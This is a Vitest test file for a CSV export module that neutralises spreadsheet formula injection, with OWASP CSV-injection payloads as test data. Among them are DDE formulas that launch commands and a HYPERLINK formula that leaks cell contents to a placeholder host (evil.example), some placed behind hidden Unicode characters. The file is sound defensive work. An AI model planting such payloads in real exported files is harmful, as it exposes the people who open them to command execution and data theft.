import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { BOM, cellText, csvDocument, csvHeader, csvLine, csvRows, neutralizeCell, previewCell } from "./csv";

/** A payload as neutralised: a leading `'`, and one before a trigger that starts a later line. */
const quoted = (payload: string) => `'${payload.replace(/(\r\n|\r|\n)(?=[=+\-@])/g, "$1'")}`;

/** Parses CSV text the way a spreadsheet import would, minus the BOM and the final empty record. */
function parse(text: string): string[][] {
  const body = text.startsWith(BOM) ? text.slice(1) : text;
  const result = Papa.parse<string[]>(body, { header: false });
  expect(result.errors).toEqual([]);
  const rows = result.data;
  if (body.endsWith("\r\n")) expect(rows.pop()).toEqual([""]);
  return rows;
}

const parseLine = (line: string): string[] => {
  const rows = parse(line);
  expect(rows).toHaveLength(1);
  return rows[0] ?? [];
};

describe("cellText", () => {
  it("turns missing values into empty text", () => {
    expect(cellText(null)).toBe("");
    expect(cellText(undefined)).toBe("");
    expect(cellText("")).toBe("");
  });

  it("keeps strings exactly, spaces included", () => {
    expect(cellText("  pump  ")).toBe("  pump  ");
  });

  it("writes booleans as Yes/No", () => {
    expect(cellText(true)).toBe("Yes");
    expect(cellText(false)).toBe("No");
  });

  it("writes numbers without locale formatting", () => {
    expect(cellText(0)).toBe("0");
    expect(cellText(-5)).toBe("-5");
    expect(cellText(3.25)).toBe("3.25");
    expect(cellText(1234567)).toBe("1234567");
    expect(cellText(9007199254740991)).toBe("9007199254740991");
    expect(cellText(1e21)).toBe("1e+21");
    expect(cellText(Number.NaN)).toBe("");
    expect(cellText(Number.POSITIVE_INFINITY)).toBe("");
  });

  it("joins arrays with comma and space, formatting each item and skipping empty ones", () => {
    expect(cellText(["a", "b", "c"])).toBe("a, b, c");
    expect(cellText([1, true, null, "", "x"])).toBe("1, Yes, x");
    expect(cellText([])).toBe("");
  });

  it("writes objects as JSON text", () => {
    expect(cellText({ a: 1, b: { c: [1, "x"] } })).toBe('{"a":1,"b":{"c":[1,"x"]}}');
    expect(cellText([{ a: 1 }, { b: 2 }])).toBe('{"a":1}, {"b":2}');
  });

  it("survives values JSON cannot write", () => {
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    expect(cellText(cyclic)).toBe("");
    expect(cellText({ n: 10n })).toBe('{"n":"10"}');
    expect(cellText(new Date(Date.UTC(2026, 10, 23)))).toBe("2026-11-23T00:00:00.000Z");
  });

  // Changed: whitespace-only text was written as it was ("a,   , b" in a list, a lone Tab as "'\t"
  // once neutralised); it is a blank, as on the page, where it reads "N/A".
  it("writes whitespace-only text and list items as blanks", () => {
    expect(cellText("   ")).toBe("");
    expect(cellText(["a", "   ", "b"])).toBe("a, b");
    expect(csvRows([{ a: "\t", b: " \r\n " }], ["a", "b"])).toBe('"",""\r\n');
  });
});

describe("neutralizeCell", () => {
  // OWASP CSV-injection payloads (www-community CSV_Injection.md) and common variants.
  const payloads = [
    "=1+2",
    '=1+2";=1+2',
    "+1",
    "-1+2",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00A0=1",
    "\u3000=1",
    "\u200B=1",
    " \t =1",
    "＝1+2",
    "＋1",
    "－1+2",
    "＠SUM(1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t",
    "-",
    "-5x",
    "-1,5",
    "=1+2\nsecond line",
  ];

  it.each(payloads)("prefixes %j with a single quote", (payload) => {
    expect(neutralizeCell(payload)).toBe(quoted(payload));
  });

  it.each(["-5", "-3.25", "-0.5", "-1e-7", "-1E+21", "-2.5e3"])("leaves the plain negative number %j alone", (n) => {
    expect(neutralizeCell(n)).toBe(n);
  });

  it.each(["abc=1", "pump", "5", "3-2", "a@b.example", "", "   ", "'already quoted", "1+1"])(
    "leaves %j untouched",
    (text) => {
      expect(neutralizeCell(text)).toBe(text);
    },
  );

  it("does not take a negative number with anything around it as a number", () => {
    expect(neutralizeCell(" -5")).toBe("' -5");
    expect(neutralizeCell("-5 ")).toBe("'-5 ");
    expect(neutralizeCell("-5\n=1+2")).toBe("'-5\n'=1+2");
  });
});

describe("csvLine", () => {
  it("quotes every field and doubles quotes (OWASP example)", () => {
    expect(csvLine([neutralizeCell('=1+2";=1+2')])).toBe('"\'=1+2"";=1+2"');
  });

  it("quotes plain fields too", () => {
    expect(csvLine(["a", "1", ""])).toBe('"a","1",""');
  });

  it("keeps commas, quotes, CR, LF and CRLF inside one field", () => {
    const cells = ["a,b", 'say "hi"', "one\rtwo", "one\ntwo", "one\r\ntwo", '"', ",", ""];
    const line = csvLine(cells);
    expect(line).toBe('"a,b","say ""hi""","one\rtwo","one\ntwo","one\r\ntwo","""",",",""');
    expect(parseLine(line)).toEqual(cells);
  });

  it("keeps leading and trailing spaces", () => {
    const cells = ["  lead", "trail  ", " both "];
    expect(csvLine(cells)).toBe('"  lead","trail  "," both "');
    expect(parseLine(csvLine(cells))).toEqual(cells);
  });

  it("keeps a line of no fields empty and has no line terminator", () => {
    expect(csvLine([])).toBe("");
    expect(csvLine(["a", "b"]).endsWith("\r\n")).toBe(false);
  });

  it("writes unicode unchanged", () => {
    const cells = ["Kühlschrank", "冷蔵庫", "🔧🧰", "مضخة المياه", "e\u0301", "a\uFEFFb"];
    expect(parseLine(csvLine(cells))).toEqual(cells);
  });
});

describe("csvHeader", () => {
  it("labels index field names by the field rules", () => {
    expect(csvHeader(["item_number_s", "attribute_status_s", "quantity_on_hand_i", "color_s"])).toBe(
      '"Item Number","Status","Quantity On Hand","Color"',
    );
  });

  it("prefers the given labels, by field name", () => {
    expect(csvHeader(["item_number_s", "org_code_s"], { item_number_s: "Part #" })).toBe('"Part #","Org Code"');
  });

  it("ignores inherited properties of the labels object", () => {
    expect(csvHeader(["constructor"], {})).toBe('"Constructor"');
  });

  it("neutralises labels like data", () => {
    expect(csvHeader(["a_s"], { a_s: "=HYPERLINK(\"http://x\")" })).toBe('"\'=HYPERLINK(""http://x"")"');
  });
});

describe("csvRows", () => {
  it("writes one CRLF-terminated line per document, in field order", () => {
    const docs = [
      { item_number_s: "WR55X10942", price_d: 12.5, purchasable_b: true },
      { item_number_s: "A,1", purchasable_b: false },
    ];
    expect(csvRows(docs, ["item_number_s", "purchasable_b", "price_d"])).toBe(
      '"WR55X10942","Yes","12.5"\r\n"A,1","No",""\r\n',
    );
  });

  it("is empty for no documents", () => {
    expect(csvRows([], ["a"])).toBe("");
  });

  it("neutralises formulas but keeps negative numbers", () => {
    const docs = [{ a: "=1+2", b: -5, c: "-3.25", d: ["=x", "y"], e: { f: "=1" } }];
    expect(csvRows(docs, ["a", "b", "c", "d", "e"])).toBe(`"'=1+2","-5","-3.25","'=x, y","{""f"":""=1""}"\r\n`);
  });

  it("reads only the document's own fields", () => {
    expect(csvRows([{}], ["constructor", "toString"])).toBe('"",""\r\n');
  });
});

describe("csvDocument", () => {
  it("starts with the BOM, then the header, then the rows, all CRLF-terminated", () => {
    const text = csvDocument([{ item_number_s: "X1" }], ["item_number_s"]);
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.codePointAt(0)).toBe(0xfeff);
    expect(text).toBe(`${BOM}"Item Number"\r\n"X1"\r\n`);
  });

  it("has only the header for no documents", () => {
    expect(csvDocument([], ["item_number_s"], { item_number_s: "Item" })).toBe(`${BOM}"Item"\r\n`);
  });

  it("round-trips tricky values through a CSV parser", () => {
    const payloads = [
      "=1+2",
      '=1+2";=1+2',
      "+1",
      "-1+2",
      "@SUM(1)",
      '=HYPERLINK("http://x","y")',
      "=cmd|' /C calc'!A0",
      "\t=1",
      "\r=1",
      "\n=1",
      " =1",
      "\u00A0=1",
      "＝1+2",
      "-2+3",
      '=DDE("cmd";"/C calc";"!A0")A0',
    ];
    const plain: unknown[] = [
      "a,b",
      'say "hi"',
      "one\r\ntwo",
      "one\ntwo",
      "  padded  ",
      "",
      null,
      undefined,
      true,
      false,
      ["x", "y, z"],
      { nested: { list: [1, "two"], quote: '"' } },
      0,
      -5,
      -3.25,
      1234567.891,
      "-5",
      "abc=1",
      "Kühlschrank Ä",
      "冷蔵庫",
      "🔧 wrench 👍🏽",
      "مضخة المياه",
    ];
    const values = [...payloads, ...plain];
    const fields = values.map((_, i) => `f${i}_s`);
    const doc = Object.fromEntries(values.map((v, i) => [fields[i] ?? "", v]));

    const rows = parse(csvDocument([doc, doc], fields));
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual(fields.map((_, i) => `F${i}`));

    for (const row of rows.slice(1)) {
      expect(row).toHaveLength(values.length);
      payloads.forEach((payload, i) => {
        const cell = row[i] ?? "";
        expect(cell, JSON.stringify(payload)).toBe(quoted(payload));
      });
      expect(row.slice(payloads.length)).toEqual(plain.map((v) => cellText(v)));
      expect(row.slice(payloads.length)).toEqual([
        "a,b",
        'say "hi"',
        "one\r\ntwo",
        "one\ntwo",
        "  padded  ",
        "",
        "",
        "",
        "Yes",
        "No",
        "x, y, z",
        '{"nested":{"list":[1,"two"],"quote":"\\""}}',
        "0",
        "-5",
        "-3.25",
        "1234567.891",
        "-5",
        "abc=1",
        "Kühlschrank Ä",
        "冷蔵庫",
        "🔧 wrench 👍🏽",
        "مضخة المياه",
      ]);
    }
  });
});

describe("previewCell", () => {
  it("keeps short text as it is", () => {
    expect(previewCell("pump")).toBe("pump");
    expect(previewCell("x".repeat(30))).toBe("x".repeat(30));
  });

  it("cuts long text to 30 characters including the ellipsis", () => {
    const out = previewCell("abcdefghij".repeat(4));
    expect(out).toBe(`${"abcdefghij".repeat(2)}abcdefghi…`);
    expect(out).toHaveLength(30);
  });

  it("honours a custom limit", () => {
    expect(previewCell("abcdefgh", 5)).toBe("abcd…");
  });

  it("formats values like the export", () => {
    expect(previewCell(true)).toBe("Yes");
    expect(previewCell(null)).toBe("");
    expect(previewCell(["a", "b"])).toBe("a, b");
  });

  it("is not neutralised: the preview is HTML text", () => {
    expect(previewCell("=1+2")).toBe("=1+2");
  });

  it("never splits an emoji or an accent", () => {
    const out = previewCell(`${"x".repeat(28)}👍🏽👍🏽👍🏽`);
    expect(out).toBe(`${"x".repeat(28)}👍🏽…`);
    expect(previewCell(`${"x".repeat(28)}e\u0301e\u0301e\u0301`)).toBe(`${"x".repeat(28)}e\u0301…`);
  });

  it("cuts inside a word, where the page's snippet cuts at a word end", () => {
    expect(previewCell("alpha beta gamma", 9)).toBe("alpha be…");
  });

  it("does not leave a space before the ellipsis", () => {
    expect(previewCell(`${"x".repeat(28)} yyyy`)).toBe(`${"x".repeat(28)}…`);
  });
});

describe("neutralizeCell: hidden prefixes and multi-line cells", () => {
  const controls = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).filter((c) => !"\t\n\r".includes(c));

  it.each(controls.map((c) => [`U+${c.charCodeAt(0).toString(16).padStart(4, "0")}`, c]))(
    "neutralises a formula behind the control character %s",
    (_name, control) => {
      for (const formula of ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "@SUM(A1)", "-2+3"]) {
        expect(neutralizeCell(`${control}${formula}`)).toBe(`'${control}${formula}`);
        expect(neutralizeCell(`${control}${control} ${formula}`).startsWith("'")).toBe(true);
      }
    },
  );

  it("neutralises DEL and zero-width characters before a trigger as well", () => {
    expect(neutralizeCell("\u007f=1+1")).toBe("'\u007f=1+1");
    expect(neutralizeCell("\u200b\u2060=1+1")).toBe("'\u200b\u2060=1+1");
  });

  it("neutralises a trigger at the start of any line of a cell", () => {
    expect(neutralizeCell("Pump\n=HYPERLINK(\"http://evil.example\")")).toBe("Pump\n'=HYPERLINK(\"http://evil.example\")");
    expect(neutralizeCell("a\r\n  +1\rb\n\u0000@x")).toBe("a\r\n  '+1\rb\n\u0000'@x");
    expect(neutralizeCell("\n=1")).toBe("'\n'=1");
  });

  it("leaves lines that start with text alone, and control characters before text", () => {
    expect(neutralizeCell("first line\nsecond = line")).toBe("first line\nsecond = line");
    expect(neutralizeCell("\u0001Pump")).toBe("\u0001Pump");
    expect(neutralizeCell("-5")).toBe("-5");
  });
});

describe("neutralizeCell: any character a spreadsheet may skip before a trigger", () => {
  // The audit's characters, then a sample of each category: Cc (C1 controls), Cf (format), Zs, Zl,
  // Zp, the other default-ignorable characters and the noncharacters.
  const skippable: [string, string][] = [
    ["U+0085 NEXT LINE (Cc)", "\u0085"],
    ["U+180E MONGOLIAN VOWEL SEPARATOR (Cf)", "\u180E"],
    ["U+FFF9 INTERLINEAR ANNOTATION ANCHOR (Cf)", "\uFFF9"],
    ["U+FFFE (noncharacter)", "\uFFFE"],
    ["U+0080 (Cc)", "\u0080"],
    ["U+009F (Cc)", "\u009F"],
    ["U+00AD SOFT HYPHEN (Cf)", "\u00AD"],
    ["U+061C ARABIC LETTER MARK (Cf)", "\u061C"],
    ["U+200E LEFT-TO-RIGHT MARK (Cf)", "\u200E"],
    ["U+202E RIGHT-TO-LEFT OVERRIDE (Cf)", "\u202E"],
    ["U+2066 LEFT-TO-RIGHT ISOLATE (Cf)", "\u2066"],
    ["U+FEFF BYTE ORDER MARK (Cf)", "\uFEFF"],
    ["U+FFFA (Cf)", "\uFFFA"],
    ["U+FFFB (Cf)", "\uFFFB"],
    ["U+E0001 LANGUAGE TAG (Cf)", "\u{E0001}"],
    ["U+1680 OGHAM SPACE MARK (Zs)", "\u1680"],
    ["U+2007 FIGURE SPACE (Zs)", "\u2007"],
    ["U+202F NARROW NO-BREAK SPACE (Zs)", "\u202F"],
    ["U+2028 LINE SEPARATOR (Zl)", "\u2028"],
    ["U+2029 PARAGRAPH SEPARATOR (Zp)", "\u2029"],
    ["U+115F HANGUL CHOSEONG FILLER (default ignorable)", "\u115F"],
    ["U+3164 HANGUL FILLER (default ignorable)", "\u3164"],
    ["U+FE0F VARIATION SELECTOR-16 (default ignorable)", "\uFE0F"],
    ["U+FFFF (noncharacter)", "\uFFFF"],
    ["U+FDD0 (noncharacter)", "\uFDD0"],
  ];
  // OWASP's CSV-injection payloads (www-community "CSV Injection").
  const owasp = [
    "=1+2",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
  ];

  it.each(skippable)("neutralises every OWASP payload behind %s", (_name, hidden) => {
    for (const payload of owasp) {
      const out = neutralizeCell(`${hidden}${payload}`);
      // A line break in the payload starts a line of its own, which gets its own quote.
      if (/^[\r\n]/.test(payload)) expect(out, payload).toBe(`${hidden}${payload[0]}'${payload.slice(1)}`);
      else expect(out, payload).toBe(`'${hidden}${payload}`);
      if (!/^[\r\n]/.test(payload)) expect(neutralizeCell(`${hidden} ${hidden}${payload}`).startsWith("'"), payload).toBe(true);
      // …and at the start of a later line of the cell (the quote goes before the trigger itself).
      if (/^[=+\-@]/.test(payload)) expect(neutralizeCell(`Pump\n${hidden}${payload}`), payload).toBe(`Pump\n${hidden}'${payload}`);
    }
  });

  it.each(skippable)("leaves text behind %s alone", (_name, hidden) => {
    expect(neutralizeCell(`${hidden}Pump`)).toBe(`${hidden}Pump`);
  });

  it("neutralises the analytics export's cells too: it writes with csvDocument", () => {
    const text = csvDocument([{ query: "\u0085=HYPERLINK(\"http://evil.example\")" }], ["query"], { query: "Query" });
    expect(text).toContain("\"'\u0085=HYPERLINK(\"\"http://evil.example\"\")\"");
  });
});
